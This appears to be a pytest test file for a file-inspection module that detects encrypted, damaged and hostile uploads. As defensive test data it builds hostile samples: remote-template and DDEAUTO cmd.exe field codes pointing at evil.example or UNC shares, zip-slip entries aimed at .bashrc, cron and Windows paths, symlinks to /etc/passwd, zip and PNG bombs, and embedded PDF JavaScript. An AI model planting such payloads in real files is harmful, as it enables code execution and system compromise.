"""Looked into without opening: locked, broken, harmful – for every real file and for made ones."""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.evidence.archives import leads_outside
from app.evidence.inspect import Inspection, inspect
from app.evidence.kinds import FileKind
from app.evidence.office import sheet_is_locked
from app.evidence.sources import BytesSource, PathSource
from tests.evidence.making import archive, bomb_png, pdf, picture, stream_object, words

TYPES = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"


def look(data: bytes, name: str) -> Inspection:
    return inspect(BytesSource(data), name)


def files_of(corpus: Path) -> list[tuple[str, str]]:
    with (corpus / "MANIFEST.csv").open(newline="") as manifest:
        return [(row["file"], row["class"]) for row in csv.DictReader(manifest)]


def test_M47_every_file_of_the_corpus_is_looked_into_and_judged_as_it_is(corpus: Path) -> None:
    wrong = []
    seen: Counter[str] = Counter()
    for name, known_as in files_of(corpus):
        seen[known_as] += 1
        found = inspect(PathSource(corpus / name), Path(name).name)
        if found.encrypted != (known_as == "encrypted") or (known_as == "ok" and found.damaged):
            wrong.append((name, found))
        if (found.encrypted or found.damaged or found.hostile) != bool(found.says):
            wrong.append((name, found))
    assert wrong == []
    assert seen == {"ok": 43, "encrypted": 13, "damaged": 7, "hostile-or-odd": 9}


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("damaged/testODTnotaZipFile.odt", "damaged"),
        ("damaged/testWORD_truncated.docx", "damaged"),
        ("damaged/testZIP_corrupted_oom.zip", "damaged"),
        ("hostile-or-odd/test-documents-spanned.zip", "one part of an archive in several parts"),
        ("hostile-or-odd/rar5-evil-symlink-traversal.rar", "link that leads outside"),
        ("hostile-or-odd/testExternalRefs.docx", "from another address"),
        ("hostile-or-odd/testPDF_jsActionOnPage.pdf", "contains a script"),
        ("ok/testWORD_macros.doc", "macros"),
    ],
)
def test_what_is_off_is_said_in_a_plain_sentence(corpus: Path, name: str, says: str) -> None:
    assert says in inspect(PathSource(corpus / name), Path(name).name).says


def test_M47_an_owners_password_alone_is_no_obstacle(corpus: Path) -> None:
    found = inspect(PathSource(corpus / "ok/testPDF_protected.pdf"), "testPDF_protected.pdf")
    assert not found.encrypted
    assert found.says == ""


def flag_locally(zipped: bytes, flags: int = 1, method: int | None = None) -> bytes:
    """Changes the first entry's own header and leaves the directory as it is."""
    changed = bytearray(zipped)
    changed[6:8] = struct.pack("<H", flags)
    if method is not None:
        changed[8:10] = struct.pack("<H", method)
    return bytes(changed)


def test_M47_a_zip_locked_in_the_entrys_own_header_only_is_noticed() -> None:
    plain = archive({"a.txt": b"hello" * 50, "b.txt": b"x"})
    assert not look(plain, "a.zip").encrypted
    assert look(flag_locally(plain), "a.zip").encrypted
    assert look(flag_locally(plain, 0, 99), "a.zip").encrypted
    assert look(flag_locally(plain)[:60], "cut short.zip").encrypted


def test_M47_a_zip_locked_in_any_entry_is_noticed() -> None:
    plain = archive({"a.txt": b"hello", "b.txt": b"x"})
    second = plain.rindex(b"PK\x01\x02")
    changed = bytearray(plain)
    changed[second + 8] |= 1
    assert look(bytes(changed), "a.zip").encrypted


def ole_sheet(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", number, len(data)) + data for number, data in records)


def test_M47_old_excel_is_locked_by_its_filepass_record() -> None:
    start, lock, sheet = (0x0809, bytes(16)), (0x002F, bytes(54)), (0x0085, bytes(10))
    assert sheet_is_locked(io.BytesIO(ole_sheet(start, lock, sheet)))
    assert not sheet_is_locked(io.BytesIO(ole_sheet(start, sheet, lock)))
    assert not sheet_is_locked(io.BytesIO(ole_sheet(start)))


def test_M47_a_locked_opendocument_names_it_in_its_manifest() -> None:
    parts = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"\x00\x01"}
    locked = {**parts, "META-INF/manifest.xml": b"<m><manifest:encryption-data/></m>"}
    assert look(archive(locked), "a.odt").encrypted
    assert not look(archive({**parts, "META-INF/manifest.xml": b"<m/>"}), "a.odt").encrypted


@pytest.mark.parametrize(
    "header",
    [
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"',
        b"Content-Type: application/pkcs7-mime;\r\n smime-type=enveloped-data; name=smime.p7m",
    ],
)
def test_M47_locked_mail_is_noticed(header: bytes) -> None:
    mail = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nDate: today\r\n" + header + b"\r\n\r\nAAAA"
    assert look(mail, "a.eml").encrypted
    assert not look(mail.replace(header, b"Content-Type: text/plain"), "a.eml").encrypted


def test_a_document_without_a_telling_name_is_known_by_its_parts() -> None:
    parts = {"_rels/.rels": b"<x/>", "padding.bin": bytes(range(256)) * 40, "[Content_Types].xml": TYPES}
    assert look(archive({**parts, "xl/workbook.xml": b"<x/>"}), "x.bin").kind is FileKind.SHEET
    assert look(archive({"holiday.txt": b"sun"}), "x.bin").kind is FileKind.ARCHIVE


def test_a_document_that_loads_from_elsewhere_is_told_from_one_with_mere_links() -> None:
    def document(relation: str) -> Inspection:
        rels = f'<Relationships><Relationship Id="a" {relation}/></Relationships>'.encode()
        parts = {
            "[Content_Types].xml": TYPES,
            "word/document.xml": b"<w/>",
            "word/_rels/document.xml.rels": rels,
        }
        return look(archive(parts), "a.docx")

    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    template = f'Type="{kind}/attachedTemplate" TargetMode="External"'
    assert document(f'{template} Target="https://evil.example/t.dotm"').hostile
    assert document(f'{template} Target="\\\\server\\share\\t.dotm"').hostile
    assert document(f'{template} Target="file:///\\\\server\\share\\t.dotm"').hostile
    assert not document(f'{template} Target="file:///C:\\Templates\\t.dotm"').hostile
    assert not document(
        f'Type="{kind}/hyperlink" TargetMode="External" Target="https://good.example"'
    ).hostile
    assert not document(f'Type="{kind}/image" Target="media/image1.png"').hostile


@pytest.mark.parametrize(
    ("field", "loads"),
    [
        (b'INCLUDEPICTURE "http://evil.example/x.png"', True),
        (b'LINK Excel.Sheet "\\\\\\\\server\\\\share\\\\x.xlsx"', True),
        (b"DDEAUTO c:\\\\windows\\\\cmd.exe", True),
        (b'LINK Excel.Sheet "C:\\\\Users\\\\x.xlsx"', False),
        (b'HYPERLINK "http://good.example"', False),
    ],
)
def test_fields_that_load_without_a_click_are_noticed(field: bytes, loads: bool) -> None:
    body = b"<w:t>Link to http://good.example</w:t><w:instrText> " + field + b" </w:instrText>"
    assert look(archive({"[Content_Types].xml": TYPES, "word/document.xml": body}), "a.docx").hostile is loads


def test_macros_in_a_newer_document_are_said() -> None:
    found = look(archive({"[Content_Types].xml": TYPES, "xl/vbaProject.bin": b"x"}), "a.xlsm")
    assert found.hostile
    assert "macros" in found.says


def test_archives_that_unpack_outside_or_without_end_are_hostile() -> None:
    assert look(archive({"../../.bashrc": b"x"}), "a.zip").hostile
    assert look(archive({"/etc/cron.d/x": b"x"}), "a.zip").hostile
    assert look(archive({"C:\\Windows\\x.dll": b"x"}), "a.zip").hostile
    assert look(archive({"zeros": bytes(100 << 20)}), "a.zip").hostile
    assert not look(archive({"a/../b.txt": b"x", "..notes.txt": b"y"}), "a.zip").hostile


def test_a_link_in_a_zip_is_followed_in_thought_only() -> None:
    def linking(target: bytes) -> Inspection:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as file:
            info = zipfile.ZipInfo("folder/link")
            info.create_system = 3
            info.external_attr = 0o120777 << 16
            file.writestr(info, target)
        return look(made.getvalue(), "a.zip")

    assert linking(b"../../outside").hostile
    assert linking(b"/etc/passwd").hostile
    assert not linking(b"../inside.txt").hostile


@given(st.lists(st.sampled_from(["a", "b", "..", ".", ""]), max_size=8))
def test_a_path_leads_outside_exactly_when_it_climbs_above_its_start(parts: list[str]) -> None:
    depth, climbed = 0, False
    for part in parts:
        depth += 1 if part in ("a", "b") else -1 if part == ".." else 0
        climbed = climbed or depth < 0
    path = "/".join(parts)
    assert leads_outside(path) == (climbed or path.startswith("/"))


def test_a_pdf_with_a_page_that_is_no_page_is_damaged() -> None:
    assert look(pdf([words("one"), words("two"), words("three")]), "a.pdf").says == ""
    assert look(pdf([words("one"), words("two"), words("three")], missing={1}), "a.pdf").says.endswith(
        "page 2 cannot be read."
    )
    assert look(b"%PDF-1.7\n" + bytes(50), "a.pdf").damaged


def test_a_script_hidden_in_a_long_pdf_is_found_across_pieces() -> None:
    filler = stream_object(bytes((1 << 20) + 77))
    action = {100: filler, 101: b"<</S/JavaScript/JS(app.alert(1))>>"}
    assert look(pdf([words("x")], action), "a.pdf").hostile
    assert not look(pdf([words("x")], {100: filler}), "a.pdf").hostile


def test_pictures_broken_or_too_large_are_said() -> None:
    assert look(picture(), "a.png").says == ""
    assert look(picture()[:20], "a.png").damaged
    assert look(bomb_png(), "a.png").hostile


def test_programs_and_scripts_are_said_to_be_what_they_are() -> None:
    for data, name in (
        (b"MZ\x90\x00", "a.exe"),
        (b"@echo off", "a.bat"),
        (b"[InternetShortcut]\nURL=x", "a.url"),
    ):
        found = look(data, name)
        assert found.hostile
        assert "program or script" in found.says


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.zip", "a.7z", "a.rar", "a.png", "a.doc"])
def test_an_empty_file_is_damaged_when_its_name_promises_more(name: str) -> None:
    assert look(b"", name).damaged


def test_an_empty_text_is_an_empty_text() -> None:
    assert look(b"", "a.txt").says == ""


SEEDS = [
    archive({"a.txt": b"hello" * 20, "b/c.txt": b"x"}),
    archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>", "_rels/.rels": b"<r/>"}),
    picture(),
    picture(format="GIF", mode="P", colour=1),
    pdf([words("one")]),
]


@settings(deadline=None, max_examples=150)
@given(
    seed=st.sampled_from(SEEDS),
    name=st.sampled_from(["a.zip", "a.docx", "a.png", "a.pdf", "a.odt", "a"]),
    hurt=st.data(),
)
def test_no_broken_file_makes_the_look_itself_fail(seed: bytes, name: str, hurt: st.DataObject) -> None:
    data = bytearray(seed[: hurt.draw(st.integers(0, len(seed)))])
    for _ in range(hurt.draw(st.integers(0, 4))):
        if data:
            data[hurt.draw(st.integers(0, len(data) - 1))] = hurt.draw(st.integers(0, 255))
    assert isinstance(look(bytes(data), name), Inspection)


@settings(deadline=None, max_examples=60)
@given(cut=st.data())
def test_no_real_archive_cut_anywhere_makes_the_look_itself_fail(corpus: Path, cut: st.DataObject) -> None:
    names = [
        "ok/test-documents.7z",
        "ok/unicode.rar",
        "ok/rar5-subdirs.rar",
        "encrypted/rar3-comment-hpsw.rar",
        "ok/testWORD.doc",
    ]
    name = cut.draw(st.sampled_from(names))
    whole = bytearray((corpus / name).read_bytes())
    del whole[cut.draw(st.integers(0, len(whole))) :]
    for _ in range(cut.draw(st.integers(0, 3))):
        if whole:
            whole[cut.draw(st.integers(0, min(200, len(whole)) - 1))] = cut.draw(st.integers(0, 255))
    assert isinstance(look(bytes(whole), Path(name).name), Inspection)
